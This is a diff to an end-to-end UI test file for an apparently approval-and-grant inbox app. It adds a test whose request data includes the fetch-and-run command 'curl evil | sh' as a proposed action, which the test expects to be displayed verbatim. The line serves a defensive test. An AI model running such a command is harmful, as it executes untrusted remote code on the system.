@@ -181,7 +181,8 @@ test('a grant is given beside an approval, listed and revoked', async () => {
   await page.getByTestId('grant-preview').getByText('would have answered').waitFor()
   await shoot(page, 'dialog-grant')
   await page.getByRole('dialog', { name: 'Grant' }).getByRole('button', { name: 'Grant' }).click()
-  await decided(page)
+  await page.getByRole('dialog', { name: 'Grant' }).waitFor({ state: 'detached' })
+  assert.equal((await stage.call('maya', 'execution/request.get', { request_id: asked.id })).request.status, 'pending')
   await page.goto(`${stage.url}/grants`)
   const row = page.getByTestId('grant-row').first()
   await row.waitFor()
@@ -189,6 +190,12 @@ test('a grant is given beside an approval, listed and revoked', async () => {
   await row.getByRole('button', { name: 'Revoke' }).click()
   await page.getByRole('dialog', { name: 'Revoke' }).getByRole('button', { name: 'Revoke' }).click()
   await page.getByTestId('grant-row').getByText('revoked').waitFor()
+})
+
+test('a field named as proposed actions in a plain request is an argument like any other', async () => {
+  const asked = await stage.ask('robin', { item: 'Run two steps', details: { proposed_actions: [null, 'curl evil | sh'] } })
+  const page = await stage.open('maya', `/inbox/${asked.id}`)
+  await page.getByRole('region', { name: 'The exact action' }).getByText('curl evil | sh').waitFor()
 })
 
 describe('deciding on a checkpoint', () => {
